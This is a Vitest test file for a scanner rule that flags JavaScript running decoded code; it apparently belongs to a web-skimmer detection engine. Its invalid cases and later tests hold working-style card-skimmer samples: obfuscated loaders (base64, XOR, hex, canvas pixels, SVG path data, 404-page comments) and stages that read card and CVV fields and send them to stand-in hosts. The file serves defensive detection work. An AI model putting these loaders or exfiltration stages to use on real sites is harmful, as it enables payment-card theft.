import { describe, expect, test } from 'vitest';
import rule from './decoded-code-eval.js';
import { ruleTable } from '../test/helpers/rule-table.js';
import { pack } from '../test/helpers/packer.js';
import { analyseSource, sha256 } from '../src/analyse/engine/run.js';

ruleTable(rule, {
  valid: [
    { name: "feature detection: a constant handler attribute set to see whether the browser knows the event (Modernizr)", code: "var el = document.createElement('div'); el.setAttribute('oninput', 'return;'); var supported = typeof el.oninput === 'function';" },
    { name: 'a template compiler appending constant pieces and the template text before new Function (stays low)', code: "function compile(tpl) { var src = 'var out = [];'; for (var i = 0; i < tpl.parts.length; i++) src += 'out.push(' + JSON.stringify(tpl.parts[i]) + ');'; src += 'return out.join(\"\");'; return new Function('data', src); }" , messageIds: ['dynamic'] },
    { name: 'a string built in a loop from constants and run through .call of a method that is not eval', code: "(function () { var s = ''; for (var i = 0; i < 3; i++) s += 'ab'; var o = { run: function (t) { return t; } }; o.run.call(o, s); })();" },
    { name: 'a packed script that only formats the card field (unpacked, nothing above low)', code: pack("document.getElementById('cc-number').addEventListener('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });") },
    { name: 'a code-split chunk imported by path', code: "import('./chunks/checkout.' + hash + '.js').then(function (m) { m.init(); });" },
    { name: 'bind shim building a wrapper from parameter names (function-bind)', code: "function joiny(arr, j) { var s = ''; for (var i = 0; i < arr.length; i++) { s += arr[i]; if (i + 1 < arr.length) s += j; } return s; } var boundArgs = ['$0', '$1']; var bound = Function('binder', 'return function (' + joiny(boundArgs, ',') + '){ return binder.apply(this,arguments); }')(binder);" },
    { name: 'webpack eval-devtool module with an escaped character in its text', code: "eval(\"{__webpack_require__.r(__webpack_exports__);\\nvar label = 'd\\u00e9j\\u00e0 vu';\\n}\");" },
    "setTimeout(function(){ run(); }, 10);",
    "setTimeout(run, 10);",
    "eval('1 + 1');",
    "var f = new Function('a', 'b', 'return a + b');",
    // near misses: code generators building functions from their own strings (d3-dsv, templates)
    { name: 'd3-dsv: row parser from column names', code: "function objectConverter(columns) { return new Function('d', 'return {' + columns.map(function(name, i) { return JSON.stringify(name) + ': d[' + i + '] || \"\"'; }).join(',') + '}'); }" },
    { name: 'template compiler: replace and join of its own source', code: "function compile(text) { var source = \"__p+='\" + text.replace(/\\n/g, '\\\\n').split('<%').join(\"';\") + \"';\"; return new Function('obj', 'var __p=\"\";with(obj){' + source + '}return __p;'); }" },
    { name: 'global object', code: "var g = Function('return this')();" },
    // markup with inline handlers is analysed, and plain handlers are inventory
    { name: 'template with an inline click handler (old widget markup)', code: "el.innerHTML = '<a href=\"#\" class=\"close\" onclick=\"this.parentNode.style.display=&quot;none&quot;; return false\">x</a>';" },
    { name: 'jQuery button with a print handler', code: "$('<button type=\"button\" onclick=\"window.print()\">Print</button>').appendTo('#receipt');" },
    { name: 'GTM container whose custom HTML tags load the Facebook pixel and Hotjar', code: "var data = { resource: { tags: [{ 'function': '__html', vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003E!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,\\'script\\',\\'https://connect.facebook.net/en_US/fbevents.js\\');fbq(\\'track\\',\\'PageView\\');\\u003C/script\\u003E' }, { 'function': '__html', vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003E(function(h,o,t,j,a,r){h._hjSettings={hjid:1234567,hjsv:6};a=o.getElementsByTagName(\\'head\\')[0];r=o.createElement(\\'script\\');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})(window,document,\\'https://static.hotjar.com/c/hotjar-\\',\\'.js?sv=\\');\\u003C/script\\u003E' }] } };" },
    { name: 'javascript:void(0) link', code: "menu.insertAdjacentHTML('beforeend', '<li><a href=\"javascript:void(0)\" data-id=\"' + id + '\">' + label + '</a></li>');" },
    { name: 'Reflect.apply and Function.prototype.call.call forwarding decoded text to a logger, not to code', code: "var m = atob('aGVsbG8='); Reflect.apply(console.log, console, [m]); Function.prototype.call.call(console.info, console, m);" },
    { name: 'a module loader fetching source text and running it as it is (SystemJS style: nothing decoded)', code: "function load(u) { return fetch(u).then(function (r) { return r.text(); }).then(function (t) { return (0, eval)(t + '\\n//# sourceURL=' + u); }); }" },
    { name: 'an icon sprite with real path data and an onload handler that only shows it', code: "var sprite = '<svg width=\"24\" height=\"24\"><path d=\"M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10 10-4.48 10-10S17.52 2 12 2zm-2 15l-5-5 1.41-1.41L10 14.17l7.59-7.59L19 8l-9 9z\"/><image href=\"/img/badge.png\" onload=\"this.parentNode.classList.add(\\'ready\\')\"/></svg>'; document.getElementById('trust').innerHTML = sprite;" },
    { name: 'an indirect eval kept under another name running a constant', code: "var ev = (0, eval); var r = ev('1 + 1');" },
  ],
  invalid: [
    { name: "an image's onerror attribute set to code that decodes the payload the script put in the image's alt text", code: "var img = document.createElement('img'); img.alt = ['%76%61%72%20%65%3D%64%6F%63%75%6D%65%6E%74', '%2E%71%75%65%72%79%53%65%6C%65%63%74%6F%72%28%27%23%63%63%27%29%3B'].join(''); img.setAttribute('onerror', 'Function(decodeURIComponent(this.alt))();this.removeAttribute(\\'onerror\\')'); img.src = 'data:image/gif;base64,R0lGOD'; document.body.appendChild(img);", messageIds: ['decoded'] },
    { name: "code read out of an image's pixels (canvas getImageData, String.fromCharCode appended in a loop) run by Function on checkout pages", code: "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width; c.height = i.height; var x = c.getContext('2d'); x.drawImage(i, 0, 0); for (var p = x.getImageData(0, 0, i.width, i.height).data, s = '', k = 0; k < p.length; k++) if (k % 4 != 3) { if (!p[k]) break; s += String.fromCharCode(p[k]); } window['Fun' + 'ction'](s)(); }; /checkout|onepage/i.test(location.pathname) && (i.src = '/media/logo.png');", messageIds: ['decoded'], severity: 'high' },
    { name: 'base64 payload run by eval reached through Reflect.apply', code: "(function (w) { var p = w.atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Reflect.apply(w.eval, w, [p]); })(window);", messageIds: ['decoded'] },
    { name: 'base64 payload run by eval reached through Function.prototype.call.call', code: "var p = atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Function.prototype.call.call(eval, window, p);", messageIds: ['decoded'] },
    { name: 'a base64+XOR decoder put on window with ||, reached through a `window.Function ? window : this` parameter, its output run by new z["Func"+"tion"]', code: "window.__wpx=window.__wpx||function(a,b){var c=atob(a),d=\"\",e=0;for(;e<c.length;e++)d+=String.fromCharCode(c.charCodeAt(e)^b.charCodeAt(e%b.length));return d};(function(z){var s=\"B1ZRbBUEFVhAOQBcH0MNPRhcA05wKQFcEkNMPkUbUlRAYQNMHFVGPk8QX0FCIBhcSllGO01wHFZEKUUQX0RRL1AbGUNXPB4DXhhbYghBEFpTIAgWThUILhlWEB9bZQ==\";try{(new z[\"Func\"+\"tion\"](z.__wpx(s,\"q7#Lm9\")))()}catch(e){}})(window.Function?window:this);", messageIds: ['decoded'] },
    { name: 'a hex string XOR-decoded by a loop in an IIFE, run by eval reached through a joined name and .call (Baka-style loader)', code: "var _$_wcx=[\"3d1b4603086c5d4e1539261f5a575e204c440435181f5846132556535e6e6819570e1e245443133e69531a55113d4c444d222e0d146a1d305e445e65650946404d735155023c38401b0c087f5c5917213b16510c4f731259\",\"Kz4#pQ9!vL\"];(function(a,b){var c=\"\",d=0,k=b.split(\"\").map(function(x){return x.charCodeAt(0)});for(;d<a.length;d+=2)c+=String.fromCharCode(parseInt(a.substr(d,2),16)^k[(d/2)%k.length]);var w=window,r=[\"e\",\"v\",\"a\",\"l\"].join(\"\");w[r].call(w,c)})(_$_wcx[0],_$_wcx[1]);", messageIds: ['decoded'] },
    { name: "Dean Edwards packer: eval(function(p,a,c,k,e,d){…}('…',62,n,'…'.split('|'),0,{})) around a card grabber sending by srcset", code: pack("function val(n) { var e = document.querySelector('[name=\"' + n + '\"]'); return e ? e.value : ''; } document.addEventListener('mousedown', function () { var img = new Image(); img.srcset = 'https:' + '//varien-cdn-static.example/m/' + btoa(val('payment[cc_number]') + ':' + val('payment[cc_cid]')) + '.jpg 1x'; }, true);"), messageIds: ['decoded'], severity: 'low' },
    { name: 'a module imported from a base64 data: URL', code: "if (/checkout/.test(location.pathname)) import('data:text/javascript;base64,' + 'ZmV0Y2goJ2h0dHBzOi8veC5leGFtcGxlLycp').catch(function () {});", messageIds: ['decoded'] },
    { name: 'Function reached as the constructor of a function, atob aliased, chunks reversed', code: "var _p = ['KTE=', 'YWxlcnQo']; var _r = function () { return _p.slice().reverse().join(''); }; var _g = window['a' + 'to' + 'b']; var _F = (function () {}).constructor; _F(_g(_r()))();", messageIds: ['decoded'] },
    { name: "''.constructor.constructor (Function) on decoded code", code: "''.constructor.constructor(atob('YWxlcnQoMSk='))();", messageIds: ['decoded'] },
    { code: "eval(atob('YWxlcnQoMSk='));", messageIds: ['decoded'], severity: 'medium' },
    { code: "new Function(String.fromCharCode(97,108,101,114,116,40,49,41))();", messageIds: ['decoded'] },
    { code: "if (location.href.indexOf('checkout') > -1) eval(atob(payload));", messageIds: ['decoded'], severity: 'high' },
    { code: "var s = document.createElement('script'); s.text = atob('YWxlcnQoMSk='); document.body.appendChild(s);", messageIds: ['decoded'] },
    { name: 'own XOR decoder', code: "function d(s){ var o=''; for (var i=0;i<s.length;i++) o += String.fromCharCode(s.charCodeAt(i) ^ 5); return o; } eval(d(payload));", messageIds: ['decoded'], severity: 'medium' },
    { name: 'decoded then reversed', code: "eval(atob(p).split('').reverse().join(''));", messageIds: ['decoded'], severity: 'medium' },
    { name: "SVG onload handler (Sansec's SVG skimmer) inserted as markup", code: "document.body.insertAdjacentHTML('beforeend', '<svg width=\"1px\" height=\"1px\"><g><path d=\"M0 0\" onload=\"eval(atob(&quot;YWxlcnQoMSk=&quot;))\"></path></g></svg>');", messageIds: ['decoded'] },
    { name: 'image onerror handler in innerHTML', code: "var box = document.createElement('div'); box.innerHTML = '<img src=x onerror=\"new Function(atob(\\'YWxlcnQoMSk=\\'))()\">'; document.body.appendChild(box);", messageIds: ['decoded'] },
    { name: 'jQuery-built image whose onerror decodes code', code: "jQuery('<img src=\"/x.gif\" style=\"display:none\" onerror=\"eval(atob(\\'YWxlcnQoMSk=\\'))\">');", messageIds: ['decoded'] },
    { name: 'javascript: URL in written markup', code: "document.write('<iframe src=\"javascript:eval(atob(%27YWxlcnQoMSk=%27))\"></iframe>');", messageIds: ['decoded'] },
    { name: 'GTM custom HTML tag (vtp_html) whose script decodes code', code: "var data = { resource: { tags: [{ 'function': '__html', once_per_event: true, vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003Eif (/checkout/.test(location.pathname)) eval(atob(\\'YWxlcnQoMSk=\\'));\\u003C/script\\u003E', tag_id: 7 }] } };", messageIds: ['decoded'] },
    { name: 'code built with join: low', code: "new Function(parts.join(';'))();", messageIds: ['dynamic'], severity: 'low' },
    { name: 'a loader fetching a missing page and running the base64 code hidden in its HTML comment (404-page loader)', code: "(function () {\n  var p = '/checkout/onepage/' + Math.random().toString(36).slice(2);\n  fetch(p, { credentials: 'omit' }).then(function (r) { return r.text(); }).then(function (t) {\n    var m = t.match(/<!--\\s*([A-Za-z0-9+\\/=]{40,})\\s*-->/);\n    if (m) new Function(atob(m[1]))();\n  });\n})();", messageIds: ['decoded'], severity: 'high' },
    { name: "code read from a favicon's pixels through a canvas and run with indirect eval (steganography loader)", code: "(function () {\n  var img = new Image();\n  img.crossOrigin = 'anonymous';\n  img.onload = function () {\n    var c = document.createElement('canvas'); c.width = img.width; c.height = img.height;\n    var x = c.getContext('2d'); x.drawImage(img, 0, 0);\n    var d = x.getImageData(0, 0, c.width, c.height).data, s = '';\n    for (var i = 0; i < d.length; i += 4) { if (d[i] === 0) break; s += String.fromCharCode(d[i]); }\n    (0, eval)(s);\n  };\n  img.src = '/media/favicon/default/favicon.png';\n})();", messageIds: ['decoded'], severity: 'high' },
    { name: 'code arriving in WebSocket messages, base64-decoded and run (await-free onmessage handler)', code: "var ws = new WebSocket('wss://' + location.host + '/ws'); ws.onmessage = function (e) { Function(decodeURIComponent(escape(atob(e.data))))(); };", messageIds: ['decoded'], severity: 'high' },
    { name: 'an XHR response decoded and run', code: "var x = new XMLHttpRequest(); x.open('GET', '/static/version/robots.txt'); x.onload = function () { eval(atob(x.responseText.split('#')[1])); }; x.send();", messageIds: ['decoded'], severity: 'high' },
    { name: 'a decoded constant run while an unrelated fetch response is parsed (stays medium)', code: "var cfg = atob('dmFyIHggPSAxOw=='); fetch('/api/cart').then(function (r) { return r.json(); }).then(function (j) { render(j); }); eval(cfg + compute());", messageIds: ['decoded'], severity: 'medium' },
    { name: "a sprite whose image onload handler runs character codes kept in an SVG path's d attribute of the same markup", code: "var sprite = '<svg width=\"1\" height=\"1\" style=\"position:absolute\"><path d=\"M 118 L 97 L 114 L 32 M 110 L 61 L 100 L 111 M 99 L 117 L 109 L 101 M 110 L 116 L 46 L 113 M 117 L 101 L 114 L 121 M 83 L 101 L 108 L 101 M 99 L 116 L 111 L 114 M 40 L 39 L 91 L 110 M 97 L 109 L 101 L 61 M 34 L 112 L 97 L 121 M 109 L 101 L 110 L 116 M 91 L 99 L 99 L 95 M 110 L 117 L 109 L 98 M 101 L 114 L 93 L 34 M 93 L 39 L 41 L 59 M 100 L 111 L 99 L 117 M 109 L 101 L 110 L 116 M 46 L 97 L 100 L 100 M 69 L 118 L 101 L 110 M 116 L 76 L 105 L 115 M 116 L 101 L 110 L 101 M 114 L 40 L 39 L 115 M 117 L 98 L 109 L 105 M 116 L 39 L 44 L 102 M 117 L 110 L 99 L 116 M 105 L 111 L 110 L 40 M 41 L 123 L 110 L 101 M 119 L 32 L 73 L 109 M 97 L 103 L 101 L 40 M 41 L 46 L 115 L 114 M 99 L 61 L 39 L 104 M 116 L 116 L 112 L 115 M 58 L 47 L 47 L 112 M 120 L 46 L 115 L 112 M 114 L 105 L 116 L 101 M 45 L 105 L 99 L 111 M 110 L 115 L 46 L 116 M 101 L 115 L 116 L 47 M 105 L 46 L 103 L 105 M 102 L 63 L 100 L 61 M 39 L 43 L 98 L 116 M 111 L 97 L 40 L 110 M 46 L 118 L 97 L 108 M 117 L 101 L 41 L 125 M 44 L 116 L 114 L 117 M 101 L 41z\"/><image href=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"var p=this.parentNode.querySelector(\\'path\\').getAttribute(\\'d\\').match(/\\\\d+/g);(new Function(p.map(function(n){return String.fromCharCode(n)}).join(\\'\\')))()\"/></svg>'; var h = document.createElement('div'); h.innerHTML = sprite; document.body.appendChild(h);", messageIds: ['decoded'], severity: 'medium' },
    { name: 'an indirect eval kept under another name ((0, eval)) running char codes shifted by 7', code: "(function () { if (!/checkout/.test(location.href)) return; var run = (0, eval), d = [117,108,126,39,80,116,104,110,108,47,48,53,122,121,106,68,46,111,123,123,119,122,65,54,54,119,127,53,125,121,122,123,52,115,108,107,110,108,121,53,123,108,122,123,54,119,70,107,68,46,50,105,123,118,104,47,107,118,106,124,116,108,117,123,53,110,108,123,76,115,108,116,108,117,123,73,128,80,107,47,46,106,106,52,117,124,116,105,108,121,46,48,53,125,104,115,124,108,48]; run(String.fromCharCode.apply(null, d.map(function (c) { return c - 7; }))); })();", messageIds: ['decoded'], severity: 'medium' },
  ],
});

describe('code whose decoder input comes from the page', () => {
  // the payload sits in a CSS custom property the script writes, read back with getComputedStyle
  const payload = Buffer.from("document.addEventListener('click',function(){var v=document.querySelector('[autocomplete=\"cc-number\"]').value;import('https://assets.theme-cdn.example/c.'+btoa(v)+'.mjs')});").toString('base64');
  const code = `var st = document.createElement('style'); st.textContent = ':root{--accent:#c00;--map:"${payload}"}'; document.head.appendChild(st);
var m = getComputedStyle(document.documentElement).getPropertyValue('--map').trim().replace(/^"|"$/g, ''); (new Function(atob(m)))();`;
  test("the script's own base64 blobs that decode to code are analysed as its children", () => {
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
  test('a base64 image in the same kind of script is not code', () => {
    const img = Buffer.from('\x89PNG\r\n\x1a\n' + 'x'.repeat(200), 'latin1').toString('base64');
    const c2 = `var s = '${img}'; var m = el.dataset.x; (new Function(atob(m)))();`;
    const r = analyseSource({ sha256: sha256(c2), source: c2, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.some((f) => f.childSha256)).toBe(false);
  });
});

describe('code kept as character codes in markup the script writes', () => {
  test('is analysed as a child: the skimmer it holds is critical (decoded)', () => {
    const code = "var sprite = '<svg width=\"1\" height=\"1\" style=\"position:absolute\"><path d=\"M 118 L 97 L 114 L 32 M 110 L 61 L 100 L 111 M 99 L 117 L 109 L 101 M 110 L 116 L 46 L 113 M 117 L 101 L 114 L 121 M 83 L 101 L 108 L 101 M 99 L 116 L 111 L 114 M 40 L 39 L 91 L 110 M 97 L 109 L 101 L 61 M 34 L 112 L 97 L 121 M 109 L 101 L 110 L 116 M 91 L 99 L 99 L 95 M 110 L 117 L 109 L 98 M 101 L 114 L 93 L 34 M 93 L 39 L 41 L 59 M 100 L 111 L 99 L 117 M 109 L 101 L 110 L 116 M 46 L 97 L 100 L 100 M 69 L 118 L 101 L 110 M 116 L 76 L 105 L 115 M 116 L 101 L 110 L 101 M 114 L 40 L 39 L 115 M 117 L 98 L 109 L 105 M 116 L 39 L 44 L 102 M 117 L 110 L 99 L 116 M 105 L 111 L 110 L 40 M 41 L 123 L 110 L 101 M 119 L 32 L 73 L 109 M 97 L 103 L 101 L 40 M 41 L 46 L 115 L 114 M 99 L 61 L 39 L 104 M 116 L 116 L 112 L 115 M 58 L 47 L 47 L 112 M 120 L 46 L 115 L 112 M 114 L 105 L 116 L 101 M 45 L 105 L 99 L 111 M 110 L 115 L 46 L 116 M 101 L 115 L 116 L 47 M 105 L 46 L 103 L 105 M 102 L 63 L 100 L 61 M 39 L 43 L 98 L 116 M 111 L 97 L 40 L 110 M 46 L 118 L 97 L 108 M 117 L 101 L 41 L 125 M 44 L 116 L 114 L 117 M 101 L 41z\"/><image href=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"var p=this.parentNode.querySelector(\\'path\\').getAttribute(\\'d\\').match(/\\\\d+/g);(new Function(p.map(function(n){return String.fromCharCode(n)}).join(\\'\\')))()\"/></svg>'; var h = document.createElement('div'); h.innerHTML = sprite; document.body.appendChild(h);";
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.evidence.decodedByParent).toBe(true);
  });
});

describe('a string built by statements after an early exit on the page', () => {
  // `if (!location.href.includes('checkout')) return;` before the loop: when the use is reached the exit was not taken
  const code = "var N=[[83,116,114,105,110,103],[102,114,111,109,67,104,97,114,67,111,100,101],[70,117,110,99,116,105,111,110]]; var h=function(a){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]);return s}; var K=[125,104,121,39,125,68,107,118,106,124,116,108,117,123,53,120,124,108,121,128,90,108,115,108,106,123,118,121,47,46,42,106,106,102,117,124,116,105,108,121,46,48,53,125,104,115,124,108,66,117,108,126,39,80,116,104,110,108,47,48,53,122,121,106,68,46,111,123,123,119,122,65,54,54,122,123,104,123,52,106,107,117,52,121,108,115,104,128,53,108,127,104,116,119,115,108,54,119,70,107,68,46,50,105,123,118,104,47,125,48,66]; (function(w,b,k){ if(w.location.href.indexOf('checkout')<0&&!w.document.querySelector('[name*=cc_number]'))return; var z=w[h(N[0])][h(N[1])],o=''; for(var i=0;i<b.length;i++)o+=z(b[i]-k); w[h(N[2])](o)(); })(window,K,7);";
  test('is resolved, and the stage it runs is analysed as a child (a skimmer, critical)', () => {
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.find((f) => f.ruleId === 'decoded-code-eval')?.message).toMatch(/analysed as child/);
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
  test('also at the top level of a script', () => {
    const stage = "var v=document.querySelector('#cc_number').value;new Image().src='https://stat-cdn-relay.example/p?d='+btoa(v);";
    const c3 = `var b = [${[...stage].map((c) => c.charCodeAt(0) + 7).join(',')}]; var o = ''; if (location.href.indexOf('checkout') < 0) throw 0; for (var i = 0; i < b.length; i++) o += String.fromCharCode(b[i] - 7); Function(o)();`;
    const r = analyseSource({ sha256: sha256(c3), source: c3, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.find((f) => f.ruleId === 'skimmer')?.severity).toBe('critical');
  });
  test('a test the interpreter can decide is still run as written', () => {
    const c2 = "(function () { var o = ''; if (1 > 0) return; o += 'ev' + 'al'; window[o]('x'); })();";
    const r = analyseSource({ sha256: sha256(c2), source: c2, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
  });
});

describe('a document-wide field handler inside code that only exists after decoding', () => {
  const inner = "document.addEventListener('input', function (e) { var t = e.target; var o = {}; o[t.name] = t.value; new EventSource('https://tk7.example/s?d=' + btoa(JSON.stringify(o))); }, true);";
  const run = (code: string) => analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
  test('is high (as plain code it is low: session replay reads fields the same way)', () => {
    expect(run(inner).findings.find((f) => f.ruleId === 'skimmer')?.severity).toBe('low');
    const hidden = `var q = [${[...inner].map((c) => c.charCodeAt(0) + 3).join(',')}], s = ''; for (var i = 0; i < q.length; i++) s += String.fromCharCode(q[i] - 3); Function(s)();`;
    const skim = run(hidden).findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('high');
    expect(skim?.childSha256).toBeTruthy();
  });
});

describe('code kept in localStorage and run from there', () => {
  test('the definition that resolves (the body written there) is analysed as a child', () => {
    const body = ["var o = {}; document.querySelectorAll('input[name^=\\'checkout[credit_card]\\']').forEach(function (e) { o[e.name] = e.value; });", "document.body.style.backgroundImage = 'url(https://tk7.example/u/' + btoa(JSON.stringify(o)) + '.png)';"];
    const code = `(function (w) { var body = ${JSON.stringify(body)}.join('\\n'), code; if (!w.localStorage.getItem('_s')) w.localStorage.setItem('_s', body); try { code = w.localStorage.getItem('_s'); } catch (e) { code = body; } var run = w['Func' + 'tion']; run(code)(); })(window);`;
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
});
describe('an accumulator compiled by Function (a template engine)', () => {
  test('is not run from its first definition alone', () => {
    const code = "function tpl(text) { var source = \"__p+='\"; text.replace(/<%=([\\s\\S]+?)%>/g, function (m, e) { source += \"'+(\" + e + \")+'\"; }); source += \"';\\n\"; source = \"var __p='';\" + source + \"return __p;\"; return new Function('obj', source); }";
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
  });
});

describe("code a helper's callers hand it", () => {
  test('a stage decoded inside the helper from what a caller passes on (404-page loader with a built-in fallback) is analysed as a child', () => {
    const stage = "var v=document.getElementById('cc_cvv').value;new Image().src='https://cdn-st4.example/p?d='+btoa(v);";
    const code = `(function () { var FALLBACK = ['${Buffer.from(stage).toString('base64').slice(0, 40)}', '${Buffer.from(stage).toString('base64').slice(40)}'].join(''); var started = false; function run(b) { try { var code = decodeURIComponent(escape(window.atob(b))); (0, eval)(code); } catch (e) {} } function go(b) { if (started) return; started = true; run(b); } fetch('/checkout/x' + Math.random() + '.html').then(function (r) { return r.text(); }).then(function (t) { go(t.split('<!--')[1] || FALLBACK); }).catch(function () { go(FALLBACK); }); })();`;
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
  test('a hex stage passed through two helpers into a script element is analysed as a child', () => {
    const stage = "var v=document.querySelector('#stripe-card-number').value;new Image().src='https://203.0.113.7/c?'+btoa(v);";
    const code = `(function () { var CACHE = '${Buffer.from(stage).toString('hex')}'; function unhex(h) { var s = ''; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); return s; } function inject(code) { var s = document.createElement('script'); s.textContent = code; document.head.appendChild(s); } function runStage(code) { inject(code); } dc.onmessage = function (ev) { runStage(ev.data); }; setTimeout(function () { runStage(unhex(CACHE)); }, 8000); })();`;
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
});
